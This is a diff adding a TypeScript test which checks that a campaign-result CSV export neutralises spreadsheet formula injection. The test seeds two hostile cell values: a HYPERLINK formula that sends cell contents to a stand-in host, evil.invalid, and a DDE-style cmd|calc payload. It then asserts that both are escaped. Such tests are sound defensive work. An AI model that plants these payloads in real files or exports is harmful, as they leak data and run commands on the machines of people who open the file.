@@ -204,3 +204,27 @@ describe('campaign result', () => {
     expect(missing.status).toBe(404);
   });
 });
+
+describe('CSV export of names a person typed', () => {
+  it('neutralises names that a spreadsheet would run as formulas (OWASP, "CSV Injection")', async () => {
+    const hostile = '=HYPERLINK("http://evil.invalid/?leak="&A1,"open")';
+    await t.ds.query('UPDATE campaign SET name = $1 WHERE id = $2', [hostile, campaignId]);
+    await t.ds.query("UPDATE ratio_series SET file_name = '@SUM(1+1)*cmd|calc' WHERE campaign_id = $1", [campaignId]);
+    const recompute = await request(t.app).post(`/api/v1/campaigns/${campaignId}/result/recompute`).set(auth(ansel));
+    expect(recompute.status).toBe(201);
+    const res = await request(t.app).get(`/api/v1/campaigns/${campaignId}/result.csv`).set(auth(ansel));
+    expect(res.status).toBe(200);
+    const cells = (prefix: string) => res.text.split('\n').find((l) => l.startsWith(prefix))!;
+    // The cell starts with a quote character inside the CSV quotes: a spreadsheet shows the text, it runs nothing.
+    expect(cells('meta,campaign,')).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""open"")"`);
+    expect(cells('input_file,')).toMatch(/^input_file,"'@SUM\(1\+1\)\*cmd\|calc",/);
+    // No cell anywhere begins with a formula character (negative numbers excepted).
+    for (const line of res.text.trim().split('\n')) {
+      for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter(Boolean)) {
+        if (/^-?\d/.test(cell)) continue;
+        expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
+        expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
+      }
+    }
+  });
+});
